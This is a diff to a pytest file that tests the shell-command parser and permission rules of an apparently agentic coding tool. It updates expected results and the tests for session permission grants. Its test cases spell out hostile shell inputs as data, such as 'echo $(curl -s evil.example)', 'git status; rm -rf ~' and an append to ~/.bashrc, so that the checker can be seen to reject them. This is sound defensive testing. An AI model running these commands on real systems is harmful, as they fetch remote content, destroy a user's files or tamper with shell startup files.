@@ -8,8 +8,8 @@ import pytest
 from pydantic import BaseModel
 
 from dsh.tools import Action, ToolDefinition
-from dsh.tools.permissions import Rule, RuleError, assess, rules_cover, session_rule
-from dsh.tools.shell import parse_command
+from dsh.tools.permissions import Rule, RuleError, assess, rules_cover, session_rules
+from dsh.tools.shell import analyse
 
 
 class Args(BaseModel):
@@ -43,22 +43,22 @@ def write(path: Path) -> Action:
         (
             "echo $(curl -s evil.example)",
             ["curl -s evil.example", "echo $(curl -s evil.example)"],
-            True,
+            False,
         ),
-        ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"], True),
+        ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"], False),
         ("make 2>&1 > /dev/null", ["make"], True),
         ("echo x > file", ["echo x"], False),
         ("echo x >> ~/.bashrc", ["echo x"], False),
         ("FOO=1 make", ["make"], False),
-        ("for f in *; do rm $f; done", [], False),
+        ("for f in *; do rm $f; done", ["rm $f"], False),
         ('echo "unterminated', ["echo"], False),
     ],
 )
 def test_commands_are_split_into_what_would_run(
     source: str, commands: list[str], checkable: bool
 ) -> None:
-    parsed = parse_command(source)
-    assert parsed.commands == commands
+    parsed = analyse(source)
+    assert sorted(parsed.commands) == sorted(commands)
     assert parsed.checkable is checkable
 
 
@@ -80,7 +80,7 @@ def test_rules_parse_and_refuse_nonsense() -> None:
         (["bash(git status:*)", "bash(rm:*)"], "git status; rm -rf ~", True),
         (["bash(echo:*)"], "echo x > file", False),  # a write never rides on a rule
         (["bash(echo:*)"], "echo $(curl evil.example)", False),
-        (["bash(echo:*)", "bash(curl:*)"], "echo $(curl evil.example)", True),
+        (["bash(echo:*)", "bash(curl:*)"], "echo $(curl evil.example)", False),
         (["bash(npm test)"], "npm test", True),
         (["bash(npm test)"], "npm test --watch", False),
         (["bash"], "anything at all", True),
@@ -144,6 +144,12 @@ def test_session_grants_apply_except_in_read_only_mode(tmp_path: Path) -> None:
 
 
 def test_the_rule_offered_for_the_session() -> None:
-    assert str(session_rule(BASH, command("git status --short"))) == "bash(git status:*)"
-    assert str(session_rule(BASH, command("pytest -x tests"))) == "bash(pytest:*)"
-    assert str(session_rule(EDIT, write(Path("/w/a")))) == "edit"
+    def offered(action: Action, tool: ToolDefinition = BASH) -> list[str]:
+        return [str(rule) for rule in session_rules(tool, action) or []]
+
+    assert offered(command("git status --short")) == ["bash(git status:*)"]
+    assert offered(command("pytest -x tests")) == ["bash(pytest:*)"]
+    assert offered(command("ls | grep x")) == ["bash(ls:*)", "bash(grep:*)"]
+    assert offered(command("rm -rf build")) == ["bash(rm -rf build)"]
+    assert offered(command("git commit -m 'fix it'")) == ["bash(git commit:*)"]
+    assert offered(write(Path("/w/a")), EDIT) == ["edit"]
